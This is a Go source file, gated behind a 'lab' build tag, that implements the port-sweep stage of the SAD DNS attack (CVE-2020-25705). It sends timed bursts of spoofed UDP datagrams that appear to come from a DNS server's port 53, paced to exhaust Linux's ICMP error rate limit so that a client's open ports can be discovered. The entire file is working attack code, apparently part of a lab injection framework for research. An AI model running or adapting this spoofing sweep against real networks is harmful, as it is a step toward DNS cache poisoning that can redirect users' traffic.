//go:build lab

package inject

import (
	"cmp"
	"context"
	"net/netip"
	"time"
)

// A SweepConfig says whose ports are looked at.
type SweepConfig struct {
	Server netip.Addr // the source, port 53
	Client netip.Addr
	First  uint16        // the first port
	Ports  int           // in each burst; 0 is 50: so many ICMP errors in 20 ms were Linux's limit
	Every  time.Duration // from burst to burst; 0 is 20 ms
	Bursts int           // 0 is 20; ports beyond 65,535 begin again at First
	// Own, if valid, is the source of one datagram to port 1 after each burst. An
	// ICMP error to it tells that the limit was not used up: a port was open.
	Own netip.Addr
}

// Sweep looks for open ports of a client as SAD DNS does (CVE-2020-25705): bursts
// of empty datagrams in the name of a server. It sends the pattern and infers
// nothing. It ends after all bursts or after a minute.
func Sweep(within Within, c SweepConfig) (*Injector, error) {
	r, err := openRouter(within, c.Client)
	if err != nil {
		return nil, err
	}
	return launch(longest, func(ctx context.Context, i *Injector) error {
		probe := func(src netip.AddrPort, port uint16) error {
			packet, err := Path{Src: src, Dst: netip.AddrPortFrom(c.Client, port)}.packet(header{ttl: 57}, nil)
			if err != nil {
				return err
			}
			return i.note(r.send(packet, c.Client))
		}
		room := 1<<16 - int(c.First)
		for burst := range cmp.Or(c.Bursts, 20) {
			if burst > 0 && !wait(ctx, cmp.Or(c.Every, 20*time.Millisecond)) {
				return ctx.Err()
			}
			ports := cmp.Or(c.Ports, 50)
			for n := range ports {
				if err := probe(netip.AddrPortFrom(c.Server, 53), c.First+uint16((burst*ports+n)%room)); err != nil {
					return err
				}
			}
			if !c.Own.IsValid() {
				continue
			}
			if err := probe(netip.AddrPortFrom(c.Own, 53), 1); err != nil {
				return err
			}
		}
		return nil
	}, r.close), nil
}
